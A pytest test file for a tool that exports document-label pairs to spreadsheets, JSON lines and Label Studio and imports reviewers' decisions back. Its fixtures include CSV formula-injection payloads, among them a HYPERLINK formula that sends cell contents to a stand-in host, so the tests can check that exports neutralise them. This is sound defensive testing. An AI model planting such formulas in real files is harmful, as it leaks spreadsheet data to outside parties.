"""Pairs out to people and decisions back: spreadsheets, JSON lines, Label Studio."""

from __future__ import annotations

import csv
import json
import os
import tempfile
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ezxmc.data import RowReport
from ezxmc.errors import ConfigError, DataError
from ezxmc.feedback.reviews import Answer, Review, Reviews
from ezxmc.records import Document, Label
from ezxmc.review.exchange import ImportedReviews, import_reviews, read_picks, write_picks
from ezxmc.review.picks import Pick, Reason

EVIL = '=HYPERLINK("http://x.test/?"&A1,"=1+1")'
DOCS = [
    Document("d0", EVIL, 'a, b\r\n"quoted"\n\'=1'),
    Document("-5", "+title", "\t@cmd"),
    Document("007", "zero", "ü" * 9_000),
]
LABELS = [Label("l0", "@sum", "-described"), Label("=l1", "'=quoted", "")]
PICKS = [Pick(document, label, Reason.UNSURE, 0.52, 0.25) for document in DOCS for label in LABELS]
NOW = 2_000_000_000.0


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Reviews]:
    with Reviews(tmp_path / "s.sqlite") as reviews:
        yield reviews


def take(store: Reviews, source: Path, **options: Any) -> tuple[ImportedReviews, RowReport]:
    report = RowReport()
    return import_reviews(store, source, report, DOCS, LABELS, **options), report


def held(store: Reviews) -> dict[tuple[str, str], Answer | None]:
    return {(one.doc_uid, one.label_uid): one.answer for one in store.latest().values()}


def rows_of(path: Path) -> list[dict[str, str]]:
    """As a spreadsheet reads it."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def save(path: Path, rows: list[dict[str, Any]]) -> Path:
    """As a spreadsheet writes it: no byte order mark, every text quoted."""
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, list(rows[0]), quoting=csv.QUOTE_ALL)
        writer.writeheader()
        writer.writerows(rows)
    return path


def lines(path: Path, rows: list[dict[str, Any]]) -> Path:
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return path


def test_a_spreadsheet_there_and_back(store: Reviews, tmp_path: Path) -> None:
    path = tmp_path / "review.csv"
    assert write_picks(path, PICKS) == [path]
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = rows_of(path)
    for row in rows:
        assert all(not value.lstrip().startswith(tuple("=+-@")) for value in row.values()), row
        assert row["decision"] == "" and row["reason"] == "teacher_unsure"
        assert all(len(value) < 32_767 for value in row.values())
    assert rows[0]["title"] == f"'{EVIL}" and rows[0]["text"] == DOCS[0].text and rows[0]["teacher"] == "0.52"
    for row, said in zip(rows, ("yes", " NO ", "s", "", "1", "false"), strict=True):
        row["decision"] = said
    done, report = take(store, save(path, rows[::-1]), reviewer="ann")
    assert done == ImportedReviews(new=5, known=0, open=1) and (report.bad, report.rows) == (0, 6)
    assert held(store) == {
        ("d0", "l0"): Answer.YES,
        ("d0", "=l1"): Answer.NO,
        ("-5", "l0"): Answer.SKIP,
        ("007", "l0"): Answer.YES,
        ("007", "=l1"): Answer.NO,
    }
    assert {one.reviewer for one in store.history()} == {"ann"}


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=20))
def test_no_cell_is_a_formula_and_none_is_changed(text: str) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "r.csv"
        uid = text.strip() or "d"
        document, label = Document(uid, text, "text"), Label("l", "title", text)
        write_picks(path, [Pick(document, label, Reason.RANDOM)])
        row = rows_of(path)[0]
        for value in row.values():
            # What programs run: after any blanks, or behind a tab or line break they take for an end.
            assert not value.strip(" \t\r\n　").startswith(tuple("=+-@＝＋－＠")) or value.startswith("'")
            assert not value.startswith(("\t", "\r", "\n"))
        row["decision"] = "yes"
        with Reviews(Path(folder) / "s.sqlite") as store:
            report = RowReport()
            done = import_reviews(store, save(path, [row]), report, [document], [label])
            assert (done.new, report.bad) == (1, 0), report.problems
            assert held(store) == {(uid, "l"): Answer.YES}


def test_the_same_file_twice_changes_nothing_and_never_what_came_later(
    store: Reviews, tmp_path: Path
) -> None:
    path = tmp_path / "review.jsonl"
    write_picks(path, PICKS)
    rows = [json.loads(line) | {"decision": "yes"} for line in path.read_text().splitlines()]
    lines(path, rows)
    os.utime(path, (NOW - 4e8, NOW - 4e8))
    assert take(store, path)[0] == ImportedReviews(6, 0, 0)
    history = list(store.history())
    assert take(store, path)[0] == ImportedReviews(0, 6, 0)
    assert list(store.history()) == history
    # Decided otherwise, and taken back, on the page meanwhile.
    store.add([Review.of(DOCS[0], LABELS[0], Answer.NO, at=NOW - 3.9e8)])
    store.add([Review.of(DOCS[0], LABELS[1], None, at=NOW - 3.9e8)])
    assert take(store, path)[0] == ImportedReviews(0, 6, 0)
    assert held(store)["d0", "l0"] is Answer.NO and held(store)["d0", "=l1"] is None
    # A later file wins, and may tell its own times.
    os.utime(path, (NOW - 3.8e8, NOW - 3.8e8))
    assert take(store, path)[0] == ImportedReviews(2, 4, 0)
    lines(path, [{**rows[0], "decision": "no", "at": "2001-02-03T04:05:06Z"}])
    assert take(store, path)[0] == ImportedReviews(0, 1, 0)
    lines(path, [{**rows[0], "decision": False, "at": "9999-01-01", "reviewer": 7}])
    assert take(store, path)[0] == ImportedReviews(1, 0, 0)
    last = list(store.history())[-1]
    assert last.answer is Answer.NO and last.reviewer == "7" and last.at < NOW


def test_bad_rows_are_named_and_cost_only_themselves(store: Reviews, tmp_path: Path) -> None:
    path = tmp_path / "review.jsonl"
    write_picks(path, PICKS)
    good = [json.loads(line) | {"decision": "yes"} for line in path.read_text().splitlines()]
    bad = [
        {**good[0], "decision": "maybe"},
        {**good[0], "doc": "gone"},
        {**good[0], "label": "gone"},
        {**good[0], "id": good[1]["id"]},
        {"label": "l0", "decision": "yes"},
        {"doc": "d0", "label": "l0"},
        {**good[0], "at": "yesterday"},
        {**good[0], "reviewer": "\ud800"},
        {**good[0], "doc": ["d0"]},
    ]
    lines(path, [*bad, {"doc": "d0", "label": "l0", "decision": "no"}])
    with path.open("ab") as handle:
        handle.write(b"{broken\n\xff\xfe\n")
    done, report = take(store, path)
    assert done == ImportedReviews(1, 0, 0) and held(store) == {("d0", "l0"): Answer.NO}
    assert [(one.line, one.kind) for one in report.problems] == [
        (1, "bad_decision"),
        (2, "unknown_document"),
        (3, "unknown_label"),
        (4, "changed_text"),
        (5, "bad_review"),
        (6, "bad_review"),
        (7, "bad_review"),
        (8, "bad_unicode"),
        (9, "bad_type"),
        (11, "bad_json"),
        (12, "bad_utf8"),
    ]
    assert report.rows == 12 and report.kept == 1
    with pytest.raises(DataError, match="no file"):
        take(store, tmp_path / "none.csv")


def test_a_pair_decided_twice_in_one_file(store: Reviews, tmp_path: Path) -> None:
    def row(doc: str, said: str) -> dict[str, str]:
        return {"doc": doc, "label": "l0", "decision": said}

    path = lines(
        tmp_path / "r.jsonl",
        [
            row("d0", "yes"),
            row("-5", "yes"),
            row("007", "skip"),
            row("d0", "no"),
            row("-5", "y"),
            row("007", "no"),
        ],
    )
    done, report = take(store, path)
    assert held(store) == {("-5", "l0"): Answer.YES, ("007", "l0"): Answer.NO}
    assert [(one.line, one.kind) for one in report.problems] == [(1, "contradiction"), (4, "contradiction")]
    assert "1, 4" in report.problems[0].detail
    assert (done.new, report.kept, report.bad) == (2, 4, 2)


def test_a_row_may_add_a_label_that_is_missing(store: Reviews, tmp_path: Path) -> None:
    documents = [*DOCS, Document("d3", "Zero", ""), Document("d4", "Alone", "text")]
    labels = [
        *LABELS,
        Label("l2", "Twice"),
        Label("l3", "twice"),
        Label("l4", "Guitar Music"),
        Label("l5", ""),
    ]
    path = tmp_path / "review.csv"
    write_picks(path, PICKS)
    rows = [row | {"decision": ""} for row in rows_of(path)]
    empty = dict.fromkeys(rows[0], "")
    added = [
        {"doc": "d4", "label": "l4"},
        {"doc": "d0", "label": "l2", "label_title": "Twice"},
        {"title": "alone", "label": "l3", "label_title": ""},
        {"doc": "007", "label_title": "guitar  music"},
        {"title": EVIL, "label_title": "guitar music"},
        {"title": "zero", "label": "l4"},
        {"doc": "d4", "label_title": "TWICE"},
        {"doc": "d4", "label_title": "Unheard <b>"},
        {"title": "Nowhere", "label": "l4"},
        {"doc": "d4", "label": "gone"},
        {"doc": "d4"},
        {"doc": "d4", "label": "l2", "label_title": "Guitar Music"},
        {"doc": "d4", "label_title": "Guitar Music", "decision": "yes"},
    ]
    rows[0]["decision"] = rows[2]["decision"] = "Added"
    rows[1]["decision"] = "no"
    more = [
        {"doc": "d0", "label": "=l1", "decision": "added"},
        {"doc": "d0", "label": "l0", "decision": "added"},
    ]
    save(path, [*rows, *({**empty, "decision": " Added ", **row} for row in [*added, *more])])

    def again() -> tuple[ImportedReviews, RowReport]:
        report = RowReport()
        return import_reviews(store, path, report, documents, labels, reviewer="ann"), report

    done, report = again()
    assert done == ImportedReviews(new=7, known=0, open=3, added=5)
    assert held(store) == {
        ("d0", "l0"): Answer.YES,  # it was proposed
        ("-5", "l0"): Answer.YES,
        ("d4", "l4"): Answer.ADDED,
        ("d0", "l2"): Answer.ADDED,
        ("d4", "l3"): Answer.ADDED,
        ("007", "l4"): Answer.ADDED,
        ("d0", "l4"): Answer.ADDED,
    }
    assert [one.kind for one in report.problems] == [
        *("ambiguous_title", "ambiguous_title", "unknown_label", "unknown_document", "unknown_label"),
        *("bad_review", "changed_text", "bad_review", "contradiction", "contradiction"),
    ]
    assert all(one.file.endswith("review.csv") and one.line > 1 for one in report.problems)
    assert "unheard <b>" in report.problems[2].detail and "2 documents" in report.problems[0].detail
    assert again()[0] == ImportedReviews(0, 7, 3)
    # Who names a label later does not unsay that somebody was asked about it.
    os.utime(path, (NOW, NOW))
    save(path, [{**empty, "doc": "-5", "label": "l0", "decision": "added"}])
    assert again()[0] == ImportedReviews(0, 1, 0) and held(store)["-5", "l0"] is Answer.YES


NAMES = [
    *("doc", "label", "decision", "at", "id", "reviewer"),
    *("data", "annotations", "result", "value", "choices", "from_name"),
]
JSON = st.recursive(
    st.none() | st.booleans() | st.floats() | st.text(max_size=9),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(NAMES), inner, max_size=5),
)


@given(JSON)
def test_no_json_breaks_an_import(value: Any) -> None:
    with tempfile.TemporaryDirectory() as folder, Reviews(Path(folder) / "s.sqlite") as store:
        for name, text in (("r.jsonl", json.dumps(value)), ("r.json", json.dumps([value, value]))):
            path = Path(folder) / name
            path.write_text(text)
            try:
                done, report = take(store, path)
            except DataError:
                continue
            assert done.new == 0 and report.bad + done.open == report.rows


def test_pairs_for_the_page_come_back_whole(tmp_path: Path) -> None:
    path = tmp_path / "review.jsonl"
    write_picks(path, [*PICKS, PICKS[0]])
    found = read_picks(path)
    assert [(p.document, p.label, p.reason) for p in found] == [
        (p.document, p.label, p.reason) for p in PICKS
    ]
    row = json.loads(path.read_text().splitlines()[0])
    for change in ({"text": "other"}, {"title": None}, {"reason": "whim"}):
        with pytest.raises(DataError, match=r"review\.jsonl:1: bad_pair"):
            read_picks(lines(path, [{**row, **change}]))
    with pytest.raises(DataError, match=r"no \.jsonl"):
        read_picks(tmp_path / "review.csv")


def exported(picks: Path, *annotations: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """What Label Studio's JSON export makes of imported tasks (labelstud.io/guide/task_format)."""
    tasks = json.loads(picks.read_text(encoding="utf-8"))
    return [
        {
            "id": number,
            "data": task["data"],
            "annotations": [
                {
                    "id": 1000 + number,
                    "completed_by": 10,
                    "was_cancelled": False,
                    "ground_truth": False,
                    "created_at": "2021-03-09T22:16:08.728353Z",
                    "updated_at": "2021-03-09T22:16:08.728378Z",
                    "lead_time": 4.288,
                    **annotation,
                }
                for annotation in given
            ],
            "predictions": [],
            "created_at": "2021-03-09T21:52:49.513742Z",
            "project": 83,
        }
        for number, (task, given) in enumerate(zip(tasks, annotations, strict=False), start=1)
    ]


def chosen(*choices: str) -> list[dict[str, Any]]:
    return [
        {
            "id": "Dx_aB91ISN",
            "from_name": "decision",
            "to_name": "text",
            "type": "choices",
            "value": {"choices": list(choices)},
        }
    ]


def test_label_studio_there_and_back(store: Reviews, tmp_path: Path) -> None:
    path = tmp_path / "tasks.json"
    assert write_picks(path, PICKS) == [path, tmp_path / "tasks.xml"]
    tasks = json.loads(path.read_text(encoding="utf-8"))
    view = ET.parse(tmp_path / "tasks.xml").getroot()
    assert [choice.get("value") for choice in view.iter("Choice")] == ["yes", "no", "skip"]
    choices = next(view.iter("Choices"))
    texts = {text.get("name"): text.get("value") for text in view.iter("Text")}
    assert choices.get("toName") in texts and choices.get("choice") == "single"
    used = {tag.get("value", "")[1:] for tag in view.iter() if tag.get("value", "").startswith("$")}
    for task in tasks:
        assert used <= set(task["data"]) and not {"teacher", "student", "decision"} & set(task["data"])
    back = exported(
        path,
        [{"result": chosen("yes"), "completed_by": {"id": 10, "email": "ann@x.test"}}],
        [{"result": [], "was_cancelled": True}],
        [],
        [{"result": chosen("no")}, {"result": chosen("yes")}],
        [{"result": [{"type": "relation", "direction": "right"}, *chosen("no")]}],
        [{"result": chosen("yes", "no")}],
    )
    answer = tmp_path / "project-1.json"
    answer.write_text(json.dumps([*back, {"data": []}, 5]), encoding="utf-8")
    done, report = take(store, answer)
    assert held(store) == {
        ("d0", "l0"): Answer.YES,
        ("d0", "=l1"): Answer.SKIP,
        ("007", "l0"): Answer.NO,
    }
    assert done == ImportedReviews(3, 0, 1)
    assert sorted((one.line, one.kind) for one in report.problems) == [
        (4, "contradiction"),
        (4, "contradiction"),
        (6, "bad_decision"),
        (7, "bad_review"),
        (8, "bad_task"),
    ]
    first = next(iter(store.latest().values()))
    assert first.reviewer == "ann@x.test" and first.at == pytest.approx(1_615_328_168.728378)
    assert take(store, answer)[0] == ImportedReviews(0, 3, 1)


@pytest.mark.parametrize("name", ["r.csv", "r.jsonl", "r.json"])
def test_a_file_with_decisions_is_not_written_over(name: str, tmp_path: Path) -> None:
    path = tmp_path / name
    write_picks(path, PICKS)
    write_picks(path, PICKS[:2])
    if name == "r.csv":
        save(path, [row | {"decision": "no"} for row in rows_of(path)])
    elif name == "r.jsonl":
        lines(path, [json.loads(line) | {"decision": "no"} for line in path.read_text().splitlines()])
    else:
        path.write_text(json.dumps(exported(path, [{"result": chosen("no")}])), encoding="utf-8")
    before = path.read_bytes()
    with pytest.raises(DataError, match="holds decisions"):
        write_picks(path, PICKS)
    assert path.read_bytes() == before


def test_other_formats_are_refused(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"end in \.jsonl, .*, \.json$"):
        write_picks(tmp_path / "review.xlsx", PICKS)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "cp1252"])
def test_a_spreadsheet_of_another_country(store: Reviews, tmp_path: Path, encoding: str) -> None:
    write_picks(tmp_path / "review.csv", PICKS)
    rows = [{**row, "decision": "Yes", "Notiz": "süß; \u20ac"} for row in rows_of(tmp_path / "review.csv")]
    with (tmp_path / "back.csv").open("w", encoding=encoding, newline="") as handle:
        writer = csv.DictWriter(handle, list(rows[0]), delimiter=";")
        writer.writerow({name: name.title() if name != "Notiz" else name for name in rows[0]})
        writer.writerows(rows)
    done, report = take(store, tmp_path / "back.csv")
    assert done.new == 6 and report.bad == 0
    assert any("semicolons" in note for note in report.notes)


@pytest.mark.parametrize("name", ["flat.json", "flat.csv", "flat.tsv"])
def test_label_studios_flat_exports(store: Reviews, tmp_path: Path, name: str) -> None:
    write_picks(tmp_path / "tasks.json", PICKS)
    tasks = json.loads((tmp_path / "tasks.json").read_text())
    at = {"created_at": "2026-01-02T03:04:05.6Z", "updated_at": "2026-01-02T03:05:05.6Z", "lead_time": 2.5}
    # The export's own columns replace the task's.
    rows = [
        {**one["data"], "id": 40 + n, "decision": "yes", "annotator": 1, "annotation_id": n, **at}
        for n, one in enumerate(tasks)
    ]
    rows[1]["decision"] = {"choices": ["no"]} if name == "flat.json" else "no"
    rows[2]["text"] = "another text"
    del rows[3]["decision"]
    if name == "flat.json":
        (tmp_path / name).write_text(json.dumps(rows))
    else:
        with (tmp_path / name).open("w", newline="") as handle:
            writer = csv.DictWriter(handle, list(rows[0]), delimiter="\t" if name == "flat.tsv" else ",")
            writer.writeheader()
            writer.writerows(rows)
    done, report = take(store, tmp_path / name)
    assert done == ImportedReviews(new=4, known=0, open=1)
    assert [(problem.line, problem.kind) for problem in report.problems] == [
        (3 if name == "flat.json" else report.problems[0].line, "changed_text")
    ]
    assert {one.reviewer for one in store.history()} == {"1"}
